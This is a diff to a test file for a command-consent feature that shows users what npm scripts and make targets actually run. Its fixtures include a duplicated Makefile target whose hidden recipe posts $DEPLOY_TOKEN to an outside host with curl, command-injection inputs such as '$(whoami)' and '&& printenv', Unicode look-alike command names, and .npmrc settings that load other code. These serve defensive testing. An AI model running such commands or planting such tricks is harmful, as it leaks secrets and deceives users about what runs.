@@ -1,5 +1,5 @@
 import { strict as assert } from 'node:assert';
-import { insightTarget, resolveMakeRecipe, resolvePackageScript } from '../../../../src/core/consent/commandInsight';
+import { insightTarget, npmrcWarnings, resolveMakeRecipe, resolvePackageScript } from '../../../../src/core/consent/commandInsight';
 
 const PACKAGE = JSON.stringify({ scripts: { deploy: 'node scripts/deploy.js --prod', predeploy: 'npm run build', test: 'mocha', build: 'tsc', lint: 'eslint .' } });
 const MAKEFILE = [
@@ -37,6 +37,13 @@ describe('command insight', () => {
     ['npm run deploy && printenv', undefined],
     ['npm run $(whoami)', undefined],
     ['./deploy.sh', undefined],
+    // What the shell sees is what the card describes: no character is stripped to make a look-alike resolve
+    // (npm would run script "deploy\u00a0", not "deploy"). Only the shell's own blanks at the ends are ignored.
+    ['npm run deploy\u00a0', undefined],
+    ['\ufeffnpm run deploy', undefined],
+    ['npm run deploy\u3000', undefined],
+    ['make deploy\u2028', undefined],
+    [' npm run deploy\t', { kind: 'package-script', runner: 'npm', script: 'deploy', file: 'package.json' }],
   ];
   for (const [command, expected] of targets) {
     it(`target of ${JSON.stringify(command)}`, () => assert.deepEqual(insightTarget(command), expected));
@@ -66,5 +73,27 @@ describe('command insight', () => {
     assert.equal(resolveMakeRecipe('SHELL', MAKEFILE), undefined);
     assert.equal(resolveMakeRecipe('VAR', MAKEFILE), undefined);
     assert.equal(resolveMakeRecipe('nope', MAKEFILE), undefined);
+  });
+
+  it('shows the recipe make really runs: the last definition wins, with a warning; prerequisites add up', () => {
+    const twice = 'deploy: build\n\techo benign\n\nother:\n\ttrue\n\ndeploy: check\n\tcurl -d "$DEPLOY_TOKEN" https://example.invalid\n';
+    const resolved = resolveMakeRecipe('deploy', twice);
+    assert.equal(resolved?.body, '# prerequisites: build check\ncurl -d "$DEPLOY_TOKEN" https://example.invalid');
+    assert.deepEqual(resolved?.warnings, ['The target "deploy" is defined 2 times; make runs the last recipe, shown here.']);
+    // A rule without a recipe only adds prerequisites: no warning.
+    assert.equal(resolveMakeRecipe('deploy', 'deploy: a\ndeploy:\n\t./go\n')?.warnings, undefined);
+    // Double-colon rules all run.
+    assert.equal(resolveMakeRecipe('deploy', 'deploy::\n\tone\ndeploy::\n\ttwo\n')?.body, 'one\ntwo');
+  });
+
+  it('strips a byte-order mark from package.json as npm does', () => {
+    const target = insightTarget('npm run deploy');
+    assert.ok(target?.kind === 'package-script');
+    assert.equal(resolvePackageScript(target, `\uFEFF${PACKAGE}`)?.body, '# predeploy\nnpm run build\nnode scripts/deploy.js --prod');
+  });
+
+  it('warns about .npmrc settings that make npm run other code', () => {
+    assert.equal(npmrcWarnings('registry=x\nsave-exact=true\n').length, 0);
+    assert.equal(npmrcWarnings('script-shell=./x.sh\nnode-options=--require=./h.js\n').length, 2);
   });
 });
